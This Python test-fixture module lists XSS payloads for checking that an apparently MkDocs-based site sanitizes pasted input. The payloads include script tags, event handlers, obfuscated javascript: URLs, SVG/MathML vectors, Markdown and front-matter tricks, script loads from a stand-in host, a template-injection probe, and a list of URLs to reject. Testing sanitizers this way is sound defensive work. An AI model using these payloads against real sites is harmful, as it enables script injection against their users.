"""XSS payloads: what a hostile or careless paste can put into any field.

Every payload that could run calls ``__xss(N)`` (or ``alert(N)``) with its
own number, so a browser test can tell which one ran. Sources of the shapes:
the OWASP XSS filter evasion cheat sheet, HTML5 Security Cheatsheet vectors
for SVG/MathML, and Markdown/MkDocs-specific ones (attr_list, front matter,
Jinja-looking text, Material's title and search rendering).
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # -- script elements ---------------------------------------------------------
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>__xss(3)</scr</script>ipt>",
    '<script\x20type="text/javascript">__xss(4);</script>',
    "</textarea><script>__xss(5)</script>",
    "<<script>__xss(6);//<</script>",
    '<script/xss src="data:text/javascript,__xss(7)"></script>',
    # -- event handlers --------------------------------------------------------------
    "<img src=x onerror=__xss(8)>",
    '<img src=x onerror="__xss(9)" alt="x">',
    '<IMG SRC=# onmouseover="__xss(10)">',
    "<body onload=__xss(11)>",
    '<div onmouseover="__xss(12)">наведите</div>',
    "<details open ontoggle=__xss(13)>",
    "<input autofocus onfocus=__xss(14)>",
    '<video><source onerror="__xss(15)"></video>',
    '<a href="#" onclick="__xss(16)">ссылка</a>',
    "<marquee onstart=__xss(17)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    # -- javascript:/vbscript:/data: URLs with obfuscation ---------------------------
    '<a href="javascript:__xss(19)">нажми</a>',
    '<a href="JaVaScRiPt:__xss(20)">нажми</a>',
    '<a href="jav&#x09;ascript:__xss(21)">нажми</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(22)">x</a>',
    '<a href=" javascript:__xss(23)">x</a>',
    '<a href="java\nscript:__xss(24)">x</a>',
    '<a href="vbscript:msgbox(25)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMjYpPC9zY3JpcHQ+">x</a>',
    '<a href="javascript&colon;__xss(27)">x</a>',
    '<form action="javascript:__xss(28)"><button>отправить</button></form>',
    '<button formaction="javascript:__xss(29)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(30)">',
    '<base href="javascript:__xss(31)//">',
    # -- frames, objects, embeds ---------------------------------------------------------
    '<iframe src="javascript:__xss(32)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss(33)</script>"></iframe>',
    '<object data="javascript:__xss(34)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=parent.__xss(35)>">',
    "<frameset onload=__xss(36)>",
    # -- styles and CSS ---------------------------------------------------------------
    "<style>body{background:url(javascript:__xss(37))}</style>",
    '<div style="width:expression(__xss(38))">x</div>',
    '<div style="background-image:url(javascript:__xss(39))">x</div>',
    "<style>@import 'https://xss.example/x.css';</style>",
    '<link rel=stylesheet href="https://xss.example/x.css">',
    # -- SVG and MathML -----------------------------------------------------------------
    "<svg onload=__xss(42)>",
    "<svg><script>__xss(43)</script></svg>",
    '<svg><a xlink:href="javascript:__xss(44)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=__xss(45) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(46)>",
    '<math href="javascript:__xss(47)">x</math>',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss(48)&lt;/script&gt;"></iframe></foreignObject></svg>',
    # -- Markdown syntax with dangerous URLs ----------------------------------------------
    "[нажми](javascript:__xss(49))",
    "[нажми](JAVASCRIPT:__xss(50))",
    "![картинка](javascript:__xss(51))",
    '![картинка](x "onerror=__xss(52)")',
    "[x](data:text/html;base64,PHNjcmlwdD5fX3hzcyg1Myk8L3NjcmlwdD4=)",
    "<javascript:__xss(54)>",
    "[a]: javascript:__xss(55)\n\n[ссылка][a]",
    "[x](&#106;avascript:__xss(56))",
    # -- MkDocs/Markdown extensions, templates, front matter ------------------------------
    'Заголовок {: onclick="__xss(57)" }',
    '# Заголовок {: onmouseover="__xss(58)" }',
    "---\ntitle: <script>__xss(59)</script>\n---",
    "{{ config.__class__ }} {% raw %}{{ 7*7 }}{% endraw %}",
    '<div markdown="1">[x](javascript:__xss(61))</div>',
    '!!! note "<img src=x onerror=__xss(62)>"\n    текст',
    "```\n</code></pre><script>__xss(63)</script>\n```",
    "<!--<script>__xss(64)</script>-->",
    "<![CDATA[<script>__xss(65)</script>]]>",
    # -- titles, attributes, quotes (Material prints titles in several places) ------------
    '"><script>__xss(66)</script>',
    "'><img src=x onerror=__xss(67)>",
    "</title><script>__xss(68)</script>",
    "</script><script>__xss(69)</script>",
    '" onmouseover="__xss(70)" x="',
    '<noscript><p title="</noscript><img src=x onerror=__xss(71)>">',
    '<a href="https://example.org" target=_blank rel=opener onclick=__xss(72)>x</a>',
    '<img src="https://xss.example/track.png">',
    "<template><script>__xss(74)</script></template>",
    "alert(75)<img src=x onerror=alert(75)>",
]

# URL fields: values that pass the link checks (http(s), one link, a document)
# but try to break out of the attribute they are printed in.
URL_PAYLOADS = [
    'https://example.org/doc.pdf?"><script>__xss(101)</script>',
    'https://example.org/doc.pdf?x="onmouseover="__xss(102)',
    "https://example.org/doc.pdf#'><img/src=x/onerror=__xss(103)>",
    "https://example.org/doc.pdf?a=<svg/onload=__xss(104)>",
]

# URL fields: values the link checks must refuse.
BAD_URLS = [
    "javascript:__xss(111)",
    "JavaScript:__xss(112)",
    " javascript:__xss(113)",
    "vbscript:msgbox(114)",
    "data:text/html,<script>__xss(115)</script>",
    "jav\tascript:__xss(116)",
    "file:///C:/Users/Учитель/x.pdf",
]
